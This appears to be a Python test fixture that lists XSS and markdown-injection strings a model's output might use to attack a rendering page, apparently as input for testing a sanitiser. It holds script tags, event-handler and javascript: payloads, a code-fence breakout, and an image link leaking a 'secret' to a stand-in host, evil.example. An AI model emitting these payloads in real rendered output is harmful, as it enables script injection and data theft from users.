"""What a model or a note may say to attack the page."""

ATTACKS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "[click](javascript:window.hit=1)",
    "![x](https://evil.example/leak?q=secret)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "<a href='https://evil.example'>here</a> https://evil.example/plain",
    "`<b onmouseover=window.hit=1>`\n```\n</code></pre><script>window.hit=1</script>\n```",
    "# <iframe src='javascript:window.hit=1'></iframe>\n> <style>*{display:none}</style>",
    "- **<input autofocus onfocus=window.hit=1>**\n1. _<math><mi xlink:href=javascript:1>_",
    "\u202e<template><p id='main'></template> <form action=//evil.example><button>x",
]
